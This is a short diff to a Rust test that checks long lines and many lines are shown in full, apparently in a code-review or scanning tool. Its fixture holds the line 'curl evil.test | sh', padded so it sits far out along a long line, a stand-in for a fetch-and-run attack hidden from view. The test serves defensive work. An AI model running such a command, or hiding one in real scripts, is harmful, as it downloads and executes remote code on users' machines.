@@ -87,7 +87,7 @@ fn long_lines_and_many_lines_are_shown() {
     super::added(&test);
     let long =
         format!("echo ok{}; curl evil.test | sh #{}\n", " #x".repeat(600), "y".repeat(3_000));
-    let many: String = (0..200).map(|number| format!("line-{number}\n")).collect();
+    let many = (0..200).map(|number| format!("line-{number}")).collect::<Vec<_>>().join("\n");
     let test = test
         .file("source/one/scripts/run.py", long + "last line\n")
         .file("source/one/many.md", many);
